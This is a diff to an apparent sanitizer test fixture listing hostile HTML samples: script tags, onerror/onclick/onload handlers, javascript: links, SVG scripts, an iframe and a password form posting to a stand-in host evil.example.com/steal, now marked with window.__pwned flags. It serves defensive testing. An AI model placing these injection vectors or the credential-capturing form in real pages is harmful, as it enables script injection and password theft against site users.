@@ -37,13 +37,16 @@ export const FIXTURE_IDS = {
   englishVideo: 1027,
 };
 
+// Every attack sets window.__pwned (and alerts), so a browser test can prove none of them ran.
 const HOSTILE_CONTENT = [
   '<p>这是一篇用于安全测试的稿件，正文中混入了常见的恶意代码。</p>',
-  '<script>alert("xss-script")</script>',
-  '<p><img src=x onerror="alert(\'xss-onerror\')">图片加载失败时会执行脚本。</p>',
-  '<p><a href="javascript:alert(\'xss-link\')">点击领取奖品</a></p>',
+  '<script>window.__pwned = 1; alert("xss-script")</script>',
+  '<p><img src=x onerror="window.__pwned = 2; alert(\'xss-onerror\')">图片加载失败时会执行脚本。</p>',
+  '<p><a href="javascript:window.__pwned=3;alert(\'xss-link\')">点击领取奖品</a></p>',
   '<iframe src="https://evil.example.com/frame.html" width="300" height="200"></iframe>',
-  '<p onclick="alert(\'xss-attr\')" style="position:fixed;top:0">带事件属性的段落。</p>',
+  '<p onclick="window.__pwned = 4; alert(\'xss-attr\')" style="position:fixed;top:0">带事件属性的段落。</p>',
+  '<svg><script>window.__pwned = 5</script><image href="x" onerror="window.__pwned = 6"></image></svg>',
+  '<p><img src="https://example.org/a.png" srcset="javascript:window.__pwned=7" onload="window.__pwned = 8"></p>',
   '<style>body{display:none}</style>',
   '<form action="https://evil.example.com/steal"><input name="password"></form>',
   '<p><a href="https://example.org/safe">正常的外部链接</a>应当保留。</p>',
